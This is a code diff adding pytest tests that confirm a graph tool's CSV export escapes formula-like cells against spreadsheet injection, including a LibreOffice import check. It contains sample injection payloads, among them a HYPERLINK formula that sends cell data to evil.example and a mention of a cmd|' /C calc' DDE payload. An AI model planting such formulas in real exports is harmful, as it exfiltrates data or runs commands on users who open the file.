@@ -4,8 +4,13 @@ from __future__ import annotations
 
 import csv
 import io
+import re
+import shutil
+import subprocess
 import zipfile
 from pathlib import Path
+
+import pytest
 
 from graph import Explorer, ViewSpec
 from graph.export import export_bytes, export_view
@@ -97,3 +102,64 @@ def test_the_evidence_table_gives_the_width_its_edges_are_drawn_with() -> None:
     drawn = {(row["evidence"], row["width"]) for row in read["edges.csv"] if row["evidence"]}
     assert len(drawn) >= 2
     assert all(widths[level] == width for level, width in drawn)
+
+
+HOSTILE = DATA / "hostile_valid"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def hostile_tables(name: str) -> dict[str, list[dict[str, str]]]:
+    return tables(export_bytes(Explorer.from_path(HOSTILE / name).view(ViewSpec(claims=True)), "csv"))
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize("name", sorted(path.name for path in HOSTILE.glob("csv_*.yaml")))
+def test_no_text_cell_starts_like_a_formula(name: str) -> None:
+    """OWASP's CSV-injection advice: a text cell a spreadsheet would run gets a leading quote."""
+    for rows in hostile_tables(name).values():
+        for row in rows:
+            assert not [cell for cell in row.values() if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
+
+
+def test_formulas_are_kept_as_text_and_numbers_stay_numbers() -> None:
+    nodes = {row["id"]: row for row in hostile_tables("csv_formula_everywhere.yaml")["nodes.csv"]}
+    assert nodes["payload"]["label"] == "'=1+1" and nodes["payload"]["aliases"] == "'@alias"
+    assert nodes["payload"]["attr_note"] == "'-1+1" and nodes["payload"]["attr_count"] == "-5"
+    assert any(float(row["y"]) < 0 for row in nodes.values())  # a negative coordinate is not a formula
+    equals = hostile_tables("csv_formula_equals.yaml")["nodes.csv"]
+    assert {row["label"] for row in equals} >= {"'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")"}
+
+
+def test_a_carriage_return_inside_a_field_does_not_start_a_row() -> None:
+    rows = hostile_tables("csv_cr_inside_label.yaml")["nodes.csv"]
+    assert [row["label"] for row in rows if row["id"] == "payload"] == ["first line\rsecond line"]
+    assert all(row["kind"] in ("cause", "condition") for row in rows)
+
+
+SOFFICE = shutil.which("soffice")
+
+
+@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (apt install libreoffice-calc-nogui)")
+def test_libreoffice_opens_every_hostile_table_without_a_formula(tmp_path: Path) -> None:
+    """Each table of the csv_* cases imported by LibreOffice Calc (UTF-8, comma, double quote) and
+    saved as XLSX: no cell holds a formula (before the fix, 6 did, among them 1+1 and cmd|' /C calc')."""
+    tables_written = []
+    for case in sorted(HOSTILE.glob("csv_*.yaml")):
+        for name, data in raw_tables(export_bytes(Explorer.from_path(case).view(ViewSpec(claims=True)), "csv")).items():
+            tables_written.append(tmp_path / f"{case.stem}.{name}")
+            tables_written[-1].write_bytes(data)
+    subprocess.run([SOFFICE, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to",
+                    "xlsx", "--infilter=CSV:44,34,76,1", "--outdir", str(tmp_path / "xlsx"), *map(str, tables_written)],
+                   check=True, capture_output=True, timeout=600)
+    books = sorted((tmp_path / "xlsx").glob("*.xlsx"))
+    assert len(books) == len(tables_written)
+    for book in books:
+        with zipfile.ZipFile(book) as archive:
+            assert not re.search(r"<f[ >]", archive.read("xl/worksheets/sheet1.xml").decode()), book.name
